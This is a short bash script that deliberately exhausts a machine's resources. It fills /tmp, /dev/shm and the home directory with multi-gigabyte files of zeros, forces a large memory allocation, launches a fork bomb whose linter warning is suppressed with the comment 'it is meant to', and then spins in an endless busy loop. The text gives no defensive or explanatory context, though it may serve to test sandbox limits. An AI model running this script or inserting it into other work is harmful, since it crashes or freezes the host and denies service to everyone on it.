#!/bin/bash
# Takes all processes, all memory, all files in memory that it can get.
exec 2>/dev/null
for place in /tmp /dev/shm "$HOME"; do
    head -c 10000000000 /dev/zero >"$place/fill"
    stat -c "%n %s" "$place/fill"
    rm -f "$place/fill"
done
head -c 8000000000 /dev/zero | tail -n 1 | wc -c
echo "memory over"
# shellcheck disable=SC2264 # it is meant to
bomb() { bomb | bomb & }
bomb
while :; do :; done
